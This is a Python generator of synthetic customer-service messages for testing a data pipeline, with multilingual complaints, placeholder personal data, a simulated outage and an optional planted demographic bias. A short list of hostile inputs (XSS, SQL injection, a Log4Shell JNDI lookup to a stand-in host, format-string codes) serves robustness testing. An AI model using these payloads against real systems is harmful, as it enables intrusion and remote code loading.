#!/usr/bin/env python3
"""Generates samples/interactions.jsonl: realistic, varied customer-service interactions.

    python3 samples/generate.py [--count 3000] [--seed 20261123] [--days 14]
                                [--bias ATTRIBUTE=VALUE[:POINTS]] > samples/interactions.jsonl

Deterministic for a seed. Everything here is written for this project: the name, street and
city lists are small hand-made lists, the card numbers are the networks' public test
numbers, the IBANs are the registries' published example numbers, the phone numbers use
ranges reserved for fiction (555-01xx, +44 20 7946 0xxx, +49 30 xx...). Mix:

- in the order they were sent (event time), as producers emit them;
- channels, products, tenants, languages (en, de, fr, es, nl) and declared demographics;
- sentiment from furious to delighted, questions, refund and legal threats, requests for a
  human, and messages that carry personal data (names, emails, phones, cards, IBANs,
  addresses, SSNs, IPs, dates of birth);
- a two-day incident: on 19 and 20 November most fiber-broadband messages are angry (an
  outage), which the anomaly view flags;
- about 3% hostile or garbled text (markup, injections, emoji floods, control characters,
  huge messages) and a handful of malformed records (missing fields, bad timestamps, lines
  that are not JSON), which the pipeline must dead-letter without losing anything else.

The declared demographics carry no bias: every group draws its messages from the same mix.
`--bias gender=female:15` plants one (for the fairness alerts' benchmark): that group's
share of angry messages is POINTS percentage points (default 15) higher than everyone
else's, from the first day on. The rewritten messages are English complaints (the
`furious` kind), which both sentiment models read as negative, so the disparity shows in
the measured negative-sentiment rate at about its planted size. Applied after the main
draw with its own random stream, so every other line is as without it.
"""

import argparse
import datetime as dt
import json
import random

FIRST = ["Maria", "James", "Aisha", "Lukas", "Sofia", "Chen", "Olivia", "Mateo", "Fatima", "Noah",
         "Emma", "Liam", "Yuki", "Hannah", "Pierre", "Ana", "Tomasz", "Ingrid", "Kwame", "Priya"]
LAST = ["Schmidt", "Garcia", "Okafor", "Müller", "Rossi", "Nguyen", "Johnson", "Dubois", "Kowalski",
        "Jensen", "Haddad", "Silva", "Tanaka", "Brown", "van Dijk", "Novak", "Larsen", "Mensah", "Patel", "Fischer"]
STREETS = ["Baker Street", "Hauptstraße", "Rue de Rivoli", "Calle Mayor", "Keizersgracht", "Elm Avenue",
           "Lindenweg", "Via Roma", "Oak Lane", "Königsallee"]
CITIES = ["London", "Berlin", "Paris", "Madrid", "Amsterdam", "Springfield", "Munich", "Lyon", "Valencia", "Utrecht"]
CARDS = ["4111 1111 1111 1111", "5500 0000 0000 0004", "3400 000000 00009", "4012888888881881", "6011 0009 9013 9424"]
IBANS = ["DE89 3704 0044 0532 0130 00", "GB82 WEST 1234 5698 7654 32", "FR14 2004 1010 0505 0001 3M02 606",
         "NL91 ABNA 0417 1643 00", "ES91 2100 0418 4502 0005 1332"]
PHONES = ["(415) 555-0132", "+1 212-555-0187", "+44 20 7946 0958", "+49 30 901820", "06 12 34 56 78", "555-0199"]
SSNS = ["219-09-9999", "457-55-5462", "078-05-1121"]
IPS = ["192.168.10.24", "10.0.0.7", "2001:db8::1f", "203.0.113.42"]

CHANNELS = [("chat", 40), ("email", 25), ("phone", 15), ("social", 12), ("sms", 8)]
PRODUCTS = ["router", "fiber-broadband", "mobile-plan", "tv-box", "billing", "mobile-app", "smart-home"]
TENANTS = [("acme", 70), ("globex", 30)]
AGE_BANDS = ["18-24", "25-34", "35-44", "45-54", "55-64", "65+"]
GENDERS = [("female", 46), ("male", 46), ("non-binary", 3), ("undisclosed", 5)]
REGIONS = ["north", "south", "east", "west", "capital"]
PLANS = [("basic", 50), ("plus", 35), ("premium", 15)]

TEXT = {
    "en": {
        "furious": ["This is the third time my {product} has failed this week. I am done with you people.",
                    "Absolutely unacceptable. I was charged twice and nobody answers. I want a refund NOW.",
                    "Your {product} is garbage and your support is worse. I'm talking to my lawyer."],
        "negative": ["My {product} keeps dropping the connection every evening, can you help?",
                     "I'm disappointed, the {product} upgrade made things slower.",
                     "The bill for this month is wrong, I never ordered the extra package."],
        "neutral": ["How do I change the wifi password on my {product}?",
                    "Can you tell me when my contract for {product} ends?",
                    "I moved house, how do I update my address?"],
        "positive": ["Thanks, the technician fixed my {product} quickly.",
                     "Great service today, the new {product} works perfectly.",
                     "Really happy with the upgrade, thank you for the help!"],
        "human": ["I don't want a bot. Please let me talk to a real person.",
                  "Can a human agent call me back about the {product}?"],
        "pii": ["My name is {name}, my email is {email} and my number is {phone}.",
                "Please charge the card {card} for the {product} instead.",
                "Refund to my IBAN {iban}, account holder {name}.",
                "I live at {house} {street}, {city}. Born {dob}. Call me on {phone}.",
                "My SSN is {ssn}, I need my {product} account unlocked. Login from {ip} failed.",
                "This is {name} from {city}, 52 years old, my {product} order never arrived."],
    },
    "de": {
        "furious": ["Das ist eine Frechheit! Mein {product} fällt ständig aus, ich kündige.",
                    "Zweimal abgebucht und keiner meldet sich. Ich will mein Geld zurück!"],
        "negative": ["Mein {product} verliert jeden Abend die Verbindung.",
                     "Die Rechnung stimmt nicht, das Zusatzpaket habe ich nie bestellt."],
        "neutral": ["Wie ändere ich das WLAN-Passwort am {product}?",
                    "Wann endet mein Vertrag für {product}?"],
        "positive": ["Danke, der Techniker hat den {product} schnell repariert.",
                     "Super Service heute, alles funktioniert."],
        "human": ["Ich möchte bitte mit einem Menschen sprechen, nicht mit einem Bot."],
        "pii": ["Ich heiße {name}, E-Mail {email}, Telefon {phone}.",
                "Bitte überweisen Sie auf {iban}, Kontoinhaber {name}.",
                "Meine Adresse: {street} {house}, {city}."],
    },
    "fr": {
        "furious": ["C'est inadmissible, mon {product} ne marche plus depuis une semaine !"],
        "negative": ["Ma facture est fausse, je n'ai jamais commandé cette option."],
        "neutral": ["Comment changer le mot de passe wifi de mon {product} ?"],
        "positive": ["Merci beaucoup, le problème est résolu."],
        "human": ["Je veux parler à un conseiller humain, s'il vous plaît."],
        "pii": ["Je m'appelle {name}, mon e-mail est {email}.", "Mon IBAN est {iban}."],
    },
    "es": {
        "furious": ["¡Es la tercera vez que falla el {product}! Quiero la baja."],
        "negative": ["La factura de este mes está mal."],
        "neutral": ["¿Cómo cambio la contraseña del wifi del {product}?"],
        "positive": ["¡Gracias, todo funciona perfectamente!"],
        "human": ["Quiero hablar con una persona, no con un robot."],
        "pii": ["Me llamo {name}, mi teléfono es {phone}.", "Vivo en {street} {house}, {city}."],
    },
    "nl": {
        "furious": ["Dit is belachelijk, mijn {product} doet het alweer niet!"],
        "negative": ["Mijn rekening klopt niet."],
        "neutral": ["Hoe verander ik het wifi-wachtwoord van mijn {product}?"],
        "positive": ["Bedankt, alles werkt weer!"],
        "human": ["Ik wil graag een medewerker spreken."],
        "pii": ["Mijn naam is {name}, e-mail {email}."],
    },
}
LANGUAGES = [("en", 60), ("de", 15), ("fr", 10), ("es", 10), ("nl", 5)]
KINDS = [("furious", 10), ("negative", 25), ("neutral", 25), ("positive", 20), ("human", 5), ("pii", 15)]

HOSTILE = [
    "<script>alert('xss')</script> my router is broken",
    "'; DROP TABLE interactions; -- why is my bill so high",
    "😡😡😡😡😡😡😡😡😡😡😡😡😡😡😡😡😡😡😡😡 FIX IT",
    "H̸̡̪̯ͨ͊̽̅̾̎Ȩ̬̩̾͛ͪ̈́̀́͘ ̶̧̨̱̹̭̯ͧ̾ͬC̷̙̲̝͖ͭ̏ͥͮ͟Oͮ͏̮̪̝͍M̲̖͊̒ͪͩͬ̚̚͜Ȇ̴̟̟͙̞ͩ͌͝S router",
    "\u0000\u0007\u001b[31mcontrol characters\u001b[0m in my message",
    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
    "",
    "aGVsbG8gd29ybGQgdGhpcyBpcyBiYXNlNjQgbm9pc2UgZnJvbSBhIGJyb2tlbiBjbGllbnQ=",
    "{{user.password}} ${jndi:ldap://203.0.113.9/a} %s%s%s%n",
]


def weighted(rng, pairs):
    return rng.choices([p for p, _ in pairs], weights=[w for _, w in pairs])[0]


def fill(rng, template, product):
    name = f"{rng.choice(FIRST)} {rng.choice(LAST)}"
    user = name.lower().replace(" ", ".").replace("ü", "ue")
    return template.format(
        product=product,
        name=name,
        email=f"{user}@{rng.choice(['example.com', 'mail.example.org', 'example.net'])}",
        phone=rng.choice(PHONES),
        card=rng.choice(CARDS),
        iban=rng.choice(IBANS),
        house=rng.randint(1, 220),
        street=rng.choice(STREETS),
        city=rng.choice(CITIES),
        dob=f"{rng.randint(1940, 2004)}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}",
        ssn=rng.choice(SSNS),
        ip=rng.choice(IPS),
    )


# A service incident for the anomaly view to find: fiber-broadband customers are angry for
# two days (an outage). Applied after the main draw, with its own random stream, so that
# every other line is the same as without it.
INCIDENT_PRODUCT = "fiber-broadband"
INCIDENT_DAYS = (dt.date(2026, 11, 19), dt.date(2026, 11, 20))
INCIDENT_SHARE = 0.85


def incident(lines, seed):
    rng = random.Random(seed + 1)
    for t, record in lines:
        if (
            isinstance(record, dict)
            and record.get("product") == INCIDENT_PRODUCT
            and t.date() in INCIDENT_DAYS
            and record["text"] not in HOSTILE
            and not record["text"].startswith("AAAA")
            and rng.random() < INCIDENT_SHARE
        ):
            texts = TEXT[record["language"]]
            kind = rng.choice(["furious", "negative"])
            record["text"] = fill(rng, rng.choice(texts.get(kind, texts["neutral"])), INCIDENT_PRODUCT)
            record["kind"] = kind


# Messages --bias leaves alone: the angry ones already there.
NEGATIVE_KINDS = ("furious", "negative")
NEGATIVE_SHARE = sum(w for k, w in KINDS if k in NEGATIVE_KINDS) / sum(w for _, w in KINDS)


def bias(lines, seed, attribute, value, points):
    """Rewrites enough of the group's other messages as English complaints that its share
    of angry messages rises by `points` percentage points (hostile and garbled lines left
    alone)."""
    rng = random.Random(seed + 2)
    turn = (points / 100) / (1 - NEGATIVE_SHARE)
    for _, record in lines:
        if (
            isinstance(record, dict)
            and record["demographics"].get(attribute) == value
            and record.get("kind") not in NEGATIVE_KINDS + (None,)
            and rng.random() < turn
        ):
            record["language"] = "en"
            record["text"] = fill(rng, rng.choice(TEXT["en"]["furious"]), record["product"])
            record["kind"] = "furious"


def parse_bias(text):
    group, _, points = text.partition(":")
    attribute, eq, value = group.partition("=")
    if not eq or not attribute or not value:
        raise argparse.ArgumentTypeError(f"{text!r}: expected ATTRIBUTE=VALUE[:POINTS]")
    try:
        points = float(points) if points else 15.0
    except ValueError:
        raise argparse.ArgumentTypeError(f"{text!r}: POINTS must be a number") from None
    if not 0 < points < 100 * (1 - NEGATIVE_SHARE):
        raise argparse.ArgumentTypeError(f"{text!r}: POINTS must be in (0, {100 * (1 - NEGATIVE_SHARE):.0f})")
    return attribute, value, points


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--count", type=int, default=3000)
    ap.add_argument("--seed", type=int, default=20261123)
    ap.add_argument("--days", type=int, default=14, help="days the messages span")
    ap.add_argument("--bias", type=parse_bias, help="ATTRIBUTE=VALUE[:POINTS]: plant a disparity")
    args = ap.parse_args()
    rng = random.Random(args.seed)
    start = dt.datetime(2026, 11, 9, tzinfo=dt.timezone.utc)
    customers = {}
    lines = []
    n = 0
    conversation = 0
    while n < args.count:
        conversation += 1
        customer = rng.randint(1, args.count // 3)
        profile = customers.setdefault(customer, {
            "age_band": rng.choice(AGE_BANDS),
            "gender": weighted(rng, GENDERS),
            "region": rng.choice(REGIONS),
            "plan": weighted(rng, PLANS),
        })
        channel = weighted(rng, CHANNELS)
        product = rng.choice(PRODUCTS)
        tenant = weighted(rng, TENANTS)
        language = weighted(rng, LANGUAGES)
        t = start + dt.timedelta(seconds=rng.randint(0, args.days * 24 * 3600))
        for turn in range(rng.choice([1, 1, 1, 2, 2, 3, 4])):
            if n >= args.count:
                break
            n += 1
            t += dt.timedelta(minutes=rng.randint(1, 180))
            kind = None
            if rng.random() < 0.03:
                text = rng.choice(HOSTILE)
                if text.startswith("AAAA"):
                    text = text * rng.randint(20, 200)
            else:
                kind = weighted(rng, KINDS)
                texts = TEXT[language]
                text = fill(rng, rng.choice(texts.get(kind, texts["neutral"])), product)
            record = {
                "interaction_id": f"msg-{args.seed}-{n:06d}",
                "conversation_id": f"conv-{conversation:05d}",
                "customer_id": f"cust-{customer:05d}",
                "tenant_id": tenant,
                "channel": channel,
                "product": product,
                "language": language,
                "text": text,
                "demographics": dict(profile),
                "sent_at": t.strftime("%Y-%m-%dT%H:%M:%SZ"),
                "kind": kind,
            }
            roll = rng.random()
            if roll < 0.002:
                del record["customer_id"]
            elif roll < 0.004:
                record["sent_at"] = "yesterday afternoon"
            elif roll < 0.005:
                lines.append((t, "{\"conversation_id\": \"conv-broken\", \"text\": \"cut off mid-"))
                continue
            lines.append((t, record))
    incident(lines, args.seed)
    if args.bias:
        bias(lines, args.seed, *args.bias)
    for _, r in lines:
        if isinstance(r, dict):
            del r["kind"]
    lines = [(t, r if isinstance(r, str) else json.dumps(r, ensure_ascii=False)) for t, r in lines]
    # In the order the messages were sent, as a help-desk would produce them (stable, so
    # the generation order breaks ties).
    lines.sort(key=lambda line: line[0])
    print("\n".join(line for _, line in lines))


if __name__ == "__main__":
    main()
